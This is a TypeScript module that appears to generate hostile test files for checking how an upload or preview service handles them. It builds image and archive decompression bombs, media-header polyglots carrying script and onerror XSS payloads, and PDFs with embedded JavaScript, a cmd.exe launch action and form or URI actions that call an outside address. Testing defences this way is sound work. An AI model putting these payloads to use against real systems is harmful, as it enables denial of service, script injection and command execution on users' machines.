import { deflateSync, gzipSync } from 'node:zlib'
import { makePdf as pdf, pdfStream as stream } from '../sample-pdf.ts'
import { escapeText, opens, PAGE, PAGES, withPage } from './documents-of-one-page.ts'
import { ascii, be32, hostile, le16, waveHeader } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function pngChunk(type: string, data: Uint8Array): Buffer {
  // The sum is wrong: a picture is judged by its header, before anything is decoded.
  return Buffer.concat([be32(data.byteLength), ascii(type), data, be32(0)])
}

const png = (width: number, height: number, data: Uint8Array = Buffer.alloc(0)): Buffer =>
  Buffer.concat([
    PNG,
    pngChunk('IHDR', Buffer.concat([be32(width), be32(height), Buffer.from([1, 0, 0, 0, 0])])),
    data,
    pngChunk('IEND', Buffer.alloc(0)),
  ])

const gif = (width: number, height: number, rest: Uint8Array): Buffer =>
  Buffer.concat([ascii('GIF89a'), le16(width), le16(height), Buffer.from([0, 0, 0]), rest])

/** Pictures and archives of a few bytes that unfold to gigabytes. */
export function bombs(): readonly HostileFile[] {
  const rows = deflateSync(Buffer.alloc(4_000_000))
  const jpeg = Buffer.from([
    0xff, 0xd8, 0xff, 0xc0, 0, 17, 8, 0xff, 0xdc, 0xff, 0xdc, 3, 1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1,
  ])
  const frame = Buffer.concat([
    Buffer.from([0x2c, 0, 0, 0, 0]),
    le16(65_535),
    le16(65_535),
    Buffer.from([0, 2, 1, 0, 0]),
  ])
  const webp = Buffer.concat([
    ascii('RIFF'),
    be32(0xff_ff),
    ascii('WEBPVP8X'),
    Buffer.from([10, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
  ])
  const avif = Buffer.concat([
    be32(24),
    ascii('ftypavif'),
    be32(0),
    be32(20),
    ascii('ispe'),
    be32(0),
    be32(90_000),
    be32(90_000),
  ])
  const pictures: readonly (readonly [string, Buffer])[] = [
    ['wide.png', png(60_000, 60_000, pngChunk('IDAT', rows))],
    ['widest.png', png(0x7f_ff_ff_ff, 0x7f_ff_ff_ff)],
    ['strip.png', png(1_000_000, 100)],
    ['nothing.png', png(0, 0)],
    ['wide.gif', gif(65_535, 65_535, Buffer.from([0x3b]))],
    ['frame.gif', gif(1, 1, frame)],
    ['wide.jpg', jpeg],
    ['endless.jpg', Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(200_000, 0xff)])],
    ['wide.webp', webp],
    ['wide.avif', avif],
    ['sizeless.avif', Buffer.concat([be32(24), ascii('ftypavif'), be32(0)])],
  ]
  const zeros = gzipSync(Buffer.alloc(20_000_000))
  return [
    ...pictures.map(([name, content]) => hostile(`bomb ${name}`, content, 'refused', 'image/png')),
    hostile('bomb.gz', zeros, 'refused', 'application/gzip'),
    hostile('bomb.svgz', gzipSync(`<svg>${'<g>'.repeat(1_000_000)}`), 'refused', 'image/svg+xml'),
    hostile('bomb.zip', Buffer.concat([ascii('PK\u0003\u0004'), zeros]), 'refused', 'application/zip'),
    hostile(
      'words.png',
      png(1, 1, pngChunk('zTXt', Buffer.concat([ascii('a\0\0'), deflateSync(Buffer.alloc(9_000_000))]))),
      'anything',
    ),
  ]
}

/** Sound that plays, with a page for its samples. */
const playable = (page: Uint8Array): Buffer => Buffer.concat([waveHeader(page.byteLength), page])

/** Files that begin as one thing and go on as a page or a script. */
export function polyglots({ script }: Payload): readonly HostileFile[] {
  const page = ascii(`<html><body><script>${script}</script><img src=x onerror="${script}">`)
  const after = (name: string, start: Buffer, mimeType = 'text/html') =>
    hostile(`both ${name}`, Buffer.concat([start, page]), 'anything', mimeType)
  return [
    after('gif.html', ascii('GIF89a=1;/*')),
    hostile('both gif.js', `GIF89a=1;${script}`, 'anything', 'text/javascript'),
    after('png.html', png(1, 1)),
    after('jpeg.html', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0xff, 0xff])])),
    after('webp.html', ascii('RIFF\u0001\0\0\0WEBPVP8 ')),
    after('avif.html', Buffer.concat([be32(24), ascii('ftypavif')])),
    after('wav.html', ascii('RIFF\u0001\0\0\0WAVEfmt ')),
    after('mp3.html', ascii('ID3\u0003\0\0\0\0\0\0'), 'audio/mpeg'),
    after('flac.html', ascii('fLaC\0\0\0\0')),
    after('ogg.html', ascii('OggS\0')),
    after('mp4.html', Buffer.concat([be32(24), ascii('ftypisom')]), 'video/mp4'),
    after('m4a.html', Buffer.concat([be32(24), ascii('ftypM4A ')])),
    after('webm.html', Buffer.from([0x1a, 0x45, 0xdf, 0xa3])),
    after('pdf.html', ascii('%PDF-1.7\n')),
    hostile('both sound.html', playable(Buffer.concat([page, Buffer.alloc(8_000, 128)])), 'anything'),
    after('late pdf.html', ascii(`<!-- %PDF-1.7 -->`)),
    after('bmp.html', ascii('BM')),
    after('zip.html', ascii('PK\u0003\u0004\0')),
  ]
}

/** Documents with scripts, actions, addresses, and loops. */
export function hostileDocuments({ script, address }: Payload): readonly HostileFile[] {
  const escaped = escapeText(script)
  const documents: readonly (readonly [string, Buffer])[] = [
    ['script', opens(`<< /S /JavaScript /JS (${escaped}) >>`)],
    ['url script', opens(`<< /S /JavaScript /JS (app.launchURL\\("${address}/launch"\\)) >>`)],
    ['launch', opens('<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')],
    ['address', opens(`<< /S /URI /URI (${address}/open) >>`)],
    ['javascript address', opens(`<< /S /URI /URI (javascript:${escaped}) >>`)],
    ['remote', opens(`<< /S /GoToR /F (${address}/remote.pdf) /D [0 /Fit] >>`)],
    ['form', opens(`<< /S /SubmitForm /F << /FS /URL /F (${address}/submit) >> /Flags 4 >>`)],
    ['page action', withPage(`/AA << /O << /S /JavaScript /JS (${escaped}) >> >>`)],
    [
      'link',
      withPage(
        `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (javascript:${escaped}) >> >>]`,
      ),
    ],
    [
      'widget',
      withPage(
        `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 99 99] /AA << /F << /S /JavaScript /JS (${escaped}) >> >> >>]`,
      ),
    ],
    ['outside stream', withPage('/Contents 4 0 R', stream(`/F << /FS /URL /F (${address}/stream) >>`, 'x'))],
    [
      'font script',
      withPage(
        '/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>',
        stream('', 'BT /F 12 Tf (a) Tj ET'),
        `<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 (1\\); ${escaped}//)] /FirstChar 97 /LastChar 97 /Widths [1] >>`,
      ),
    ],
    [
      'form of xml',
      pdf(
        `<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>`,
        PAGES,
        PAGE,
        stream(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">${script}</script></xdp:xdp>`,
        ),
      ),
    ],
    ['endless pages', pdf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 2000000000 >>')],
    ['loop', pdf('<< /Type /Catalog /Pages 1 0 R >>', PAGES)],
    ['vast page', withPage('/MediaBox [0 0 1000000000 1] /UserUnit 1000000')],
    [
      'vast picture',
      withPage(
        '/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>',
        stream('', 'q 200 0 0 200 0 0 cm /I Do Q'),
        stream(
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8',
          'x',
        ),
      ),
    ],
    ['much to draw', withPage('/Contents 4 0 R', stream('', '0 0 m 200 200 l S q '.repeat(60_000)))],
    ['nested', ascii(`%PDF-1.7\n1 0 obj\n${'['.repeat(200_000)}\nendobj\ntrailer << /Root 1 0 R >>`)],
    ['nothing', ascii('%PDF-1.7\n')],
  ]
  return documents.map(([name, content]) => hostile(`document ${name}.pdf`, content, 'anything', 'application/pdf'))
}
